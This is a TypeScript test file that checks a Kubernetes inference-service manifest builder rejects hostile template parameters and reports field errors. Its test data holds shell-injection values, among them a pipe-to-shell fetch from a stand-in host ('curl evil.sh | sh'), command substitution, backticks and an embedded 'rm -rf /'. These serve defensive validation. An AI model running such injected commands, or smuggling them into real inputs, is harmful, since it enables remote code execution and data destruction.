/*
 * Copyright 2026 The FusionInfer Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

import { buildInferenceService } from './build';

const base = {
  name: 'qwen',
  namespace: 'ml',
  model: 'Qwen/Qwen3-8B',
  image: 'vllm/vllm-openai:v0.27.1',
  topology: 'monolithic',
  worker: { replicas: 1, gpusPerPod: 1 },
};

const errorsOf = (input: unknown) => {
  const r = buildInferenceService(input);
  if (r.ok) throw new Error('expected field errors');
  return r.errors;
};

describe('hostile template parameters get field errors, never a manifest', () => {
  it.each([
    [
      'a string for replicas',
      { worker: { replicas: '3' } },
      'parameters.worker.replicas',
      /number/i,
    ],
    [
      'a billion replicas',
      { worker: { replicas: 1e9 } },
      'parameters.worker.replicas',
      /100/,
    ],
    [
      'negative GPUs',
      { worker: { gpusPerPod: -1 } },
      'parameters.worker.gpusPerPod',
      /0/,
    ],
    [
      'fractional replicas',
      { worker: { replicas: 1.5 } },
      'parameters.worker.replicas',
      /integer/,
    ],
    ['an upper-case name', { name: 'Qwen_3' }, 'parameters.name', /DNS-1035/],
    ['a 64-character name', { name: 'a'.repeat(64) }, 'parameters.name', /63/],
    [
      'a name whose LeaderWorkerSet name breaks the 50-character limit',
      { name: 'q'.repeat(45) },
      'parameters.name',
      /50/,
    ],
    [
      'shell syntax in the model',
      { model: 'Qwen/Qwen3-8B; curl evil.sh | sh' },
      'parameters.model',
      /model id/,
    ],
    [
      'a flag as the model',
      { model: '--trust-remote-code' },
      'parameters.model',
      /model id/,
    ],
    [
      'command substitution in the model',
      { model: 'Qwen/$(id)' },
      'parameters.model',
      /model id/,
    ],
    [
      'command substitution in an argument',
      { worker: { extraArgs: ['--served-model-name', '$(curl evil)'] } },
      'parameters.worker.extraArgs[1]',
      /shell metacharacters/,
    ],
    [
      'backticks in an argument',
      { worker: { extraArgs: ['`id`'] } },
      'parameters.worker.extraArgs[0]',
      /shell metacharacters/,
    ],
    [
      'a newline in an argument',
      { worker: { extraArgs: ['--x\nrm -rf /'] } },
      'parameters.worker.extraArgs[0]',
      /control characters/,
    ],
    [
      'shell syntax in the image',
      { image: 'vllm/vllm-openai:latest && curl x' },
      'parameters.image',
      /image reference/,
    ],
    [
      'a host name with a semicolon',
      {
        routing: 'prefix-cache',
        gateway: { name: 'gw' },
        hostnames: ['a.example.com;rm'],
      },
      'parameters.hostnames[0]',
      /host name/,
    ],
    [
      'host names without a gateway',
      { routing: 'prefix-cache', hostnames: ['a.example.com'], gateway: {} },
      'parameters.gateway.name',
      /required when host names are given/,
    ],
    [
      'an unknown topology',
      { topology: 'quantum' },
      'parameters.topology',
      /monolithic/,
    ],
    [
      'an unknown strategy',
      { routing: 'random' },
      'parameters.routing',
      /prefix-cache/,
    ],
    [
      'P/D routing on a monolithic service',
      { routing: 'pd-disaggregation' },
      'parameters.routing',
      /P\/D topology/,
    ],
    [
      'several nodes on a monolithic service',
      { worker: { replicas: 1, nodeCount: 4 } },
      'parameters.worker.nodeCount',
      /multi-node/,
    ],
    [
      'an unknown role field',
      { worker: { replicas: 1, privileged: true } },
      'parameters.worker',
      /privileged/,
    ],
    [
      'too many pods in total',
      { topology: 'multi-node', worker: { replicas: 100, nodeCount: 64 } },
      'parameters.worker.replicas',
      /6400 pods/,
    ],
    [
      'custom routing without a config',
      { routing: 'custom' },
      'parameters.endpointPickerConfig',
      /required/,
    ],
    [
      'a custom config that is not an EndpointPickerConfig',
      { routing: 'custom', endpointPickerConfig: 'kind: Secret\nfoo: [' },
      'parameters.endpointPickerConfig',
      /./,
    ],
    [
      'an owner that is not an entity ref',
      { owner: 'root; drop table' },
      'parameters.owner',
      /entity reference/,
    ],
    [
      'a LoRA adapter path with shell syntax',
      { loraAdapters: [{ name: 'a', path: 'x && y' }] },
      'parameters.loraAdapters[0].path',
      /Hugging Face id/,
    ],
  ])('%s', (_, patch, path, message) => {
    const errors = errorsOf({ ...base, ...(patch as object) });
    expect(errors).toContainEqual({
      path,
      message: expect.stringMatching(message as RegExp),
    });
  });

  it('reports every problem at once', () => {
    const errors = errorsOf({
      ...base,
      name: 'Bad',
      model: 'x|y',
      worker: { replicas: -3, gpusPerPod: 99 },
    });
    expect(errors.map(e => e.path).sort()).toEqual([
      'parameters.model',
      'parameters.name',
      'parameters.worker.gpusPerPod',
      'parameters.worker.replicas',
    ]);
  });

  it('rejects input that is not an object', () => {
    for (const v of [null, 'qwen', 42, [base]])
      expect(errorsOf(v)[0].path).toBe('parameters');
  });

  it('passes JSON in an argument through as one argv item (no shell involved)', () => {
    const r = buildInferenceService({
      ...base,
      worker: {
        replicas: 1,
        extraArgs: [
          '--speculative-config',
          '{"method": "ngram", "num_speculative_tokens": 5}',
        ],
      },
    });
    expect(r.ok).toBe(true);
  });

  it('ignores settings the chosen topology and routing do not use (stale form values), with warnings', () => {
    const r = buildInferenceService({
      ...base,
      prefill: { replicas: 2 },
      kvTransfer: { connector: 'NixlConnector' },
      routing: 'none',
      gateway: { name: 'gw' },
      endpointPickerConfig: 'x',
    });
    if (!r.ok) throw new Error(JSON.stringify(r.errors));
    expect(r.manifest.spec.roles.map(x => x.name)).toEqual(['inference']);
    expect(r.warnings.map(w => `${w.path}: ${w.message}`)).toEqual([
      'parameters.prefill: ignored: the monolithic topology has no prefill role',
      'parameters.kvTransfer: ignored: only P/D topologies transfer the KV cache',
      'parameters.gateway: ignored: routing is none',
      'parameters.endpointPickerConfig: ignored: routing is not custom',
    ]);
  });

  it('ignores form-only fields with a warning', () => {
    const r = buildInferenceService({
      ...base,
      preview: {},
      waitUntilReady: true,
    });
    expect(r.ok && r.warnings.map(w => w.path)).toEqual([
      'parameters.preview',
      'parameters.waitUntilReady',
    ]);
  });
});
